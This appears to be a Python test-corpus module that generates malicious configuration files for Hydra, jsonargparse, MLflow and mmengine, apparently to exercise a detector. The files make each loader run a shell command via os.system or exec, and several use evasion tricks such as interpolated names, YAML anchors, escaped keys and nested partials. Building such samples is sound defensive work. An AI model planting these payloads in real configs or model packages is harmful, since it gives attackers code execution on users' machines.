"""Configurations whose real loader runs the payload; the loaders come with `constraints/corpus/configuration.in`.

Those of `formats_config` have no such loader here: Rasa, AllenNLP, BentoML, fairseq, Detectron2 and Ultralytics are not
installed, langchain-core 1.x refuses foreign names and Jinja prompts, and a callback of spaCy needs a package beside it.
"""

from __future__ import annotations

import json

from .sample import EXECUTES, Kit, Maker, Sample


def samples() -> list[Sample]:
    """All of this module."""
    return [*_hydra(), *_modules()]


def _sample(path: str, technique: str, loader: str, make: Maker, calls: tuple[str, ...], **options: object) -> Sample:
    return Sample(f"configuration-run/{path}", technique, EXECUTES, make, calls=calls, loader=loader, **options)  # type: ignore[arg-type]


def _yaml(text: str) -> Maker:
    return lambda kit: text.replace("SHELL", kit.shell).encode()


def _script(kit: Kit) -> bytes:
    return f"import os\nos.system({kit.shell!r})\n".encode()


def _hydra() -> list[Sample]:
    shell, name = ("os.system",), "hydra"
    return [
        _sample("hydra/config.yaml", "hydra.utils.instantiate of a shell", name,
                _yaml("m:\n  _target_: os.system\n  command: SHELL\n"), shell, reference="CVE-2025-23304"),
        _sample("hydra-json/config.json", "exec in JSON, with positional arguments", name,
                lambda k: json.dumps({"m": {"_target_": "builtins.exec", "_args_": [k.code]}}).encode(), ("builtins.exec",),
                reference="CVE-2026-22584"),
        _sample("hydra-interpolated/config.yaml", "the name is put together", name,
                _yaml("a: os\nm:\n  _target_: ${a}.system\n  command: SHELL\n"), ("${a}.system",)),
        _sample("hydra-alias/config.yaml", "key and value through anchors", name,
                _yaml("a: &x os.system\nm: &m\n  _target_: *x\n  command: SHELL\n"), shell),
        _sample("hydra-escaped/config.yaml", "the key is written with an escape", name,
                _yaml('m:\n  "_tar\\x67et_": os.system\n  command: SHELL\n'), shell),
        _sample("hydra-list/config.yaml", "a target deep in lists", name,
                _yaml("a:\n- - b:\n    - {_target_: os.system, command: SHELL}\n"), shell),
        _sample("hydra-partial/config.yaml", "a partial of a shell that another target calls", name,
                _yaml("m:\n  _target_: builtins.list\n  _args_:\n  - _target_: builtins.map\n    _args_:\n"
                      "    - {_target_: os.system, _partial_: true}\n    - [SHELL]\n"), ("os.system", "builtins.map")),
        _sample("hydra-method/config.yaml", "Hydra's own function that imports", name,
                _yaml("m:\n  _target_: builtins.list\n  _args_:\n  - _target_: builtins.map\n    _args_:\n"
                      "    - {_target_: hydra.utils.get_method, path: os.system}\n    - [SHELL]\n"), ("hydra.utils.get_method",)),
    ]  # fmt: skip


def _modules() -> list[Sample]:
    return [
        _sample("lightning/config.yaml", "class_path of jsonargparse", "jsonargparse",
                _yaml("callback:\n  class_path: lightning_notes.Callback\n"), ("lightning_notes.Callback",),
                extra={"lightning_notes.py": _script}),
        _sample("mlflow/MLmodel", "an MLflow flavour with a loader of its own", "mlflow",
                _yaml("flavors:\n  python_function:\n    loader_module: notes_loader\n    code: code\n    env: {}\n"),
                ("notes_loader",), extra={"code/notes_loader.py": _script}),
        _sample("mlflow-code/MLmodel", "an MLflow model from code", "mlflow",
                _yaml("flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: notes.py\n"
                      "    env: {}\n"), ("notes.py",), extra={"notes.py": _script}),
        _sample("mmengine/config.json", "modules to import", "mmengine",
                _yaml('{"custom_imports": {"imports": ["mm_notes"]}}'), ("mm_notes",), extra={"mm_notes.py": _script}),
        _sample("mmengine-python/config.py", "a Python configuration", "mmengine",
                lambda k: f"model = dict(type='A')\nx = __import__('os').system({k.shell!r})\n".encode(), ("os.system",)),
        _sample("mmengine-imports/config.py", "modules to import, in a Python configuration", "mmengine",
                _yaml("custom_imports = dict(imports=['mm_notes'], allow_failed_imports=False)\n"), ("mm_notes",),
                extra={"mm_notes.py": _script}),
        _sample("mmengine-base/config.yaml", "YAML whose base is Python", "mmengine", _yaml("_base_: ./base.py\n"),
                ("base.py",), extra={"base.py": lambda k: f"x = __import__('os').system({k.shell!r})\n".encode()}),
        _sample("mmengine-type/config.yaml", "a type that the registry imports and calls", "mmengine-build",
                _yaml("type: os.system\ncommand: SHELL\n_delete_: true\n"), ("os.system",)),
    ]  # fmt: skip
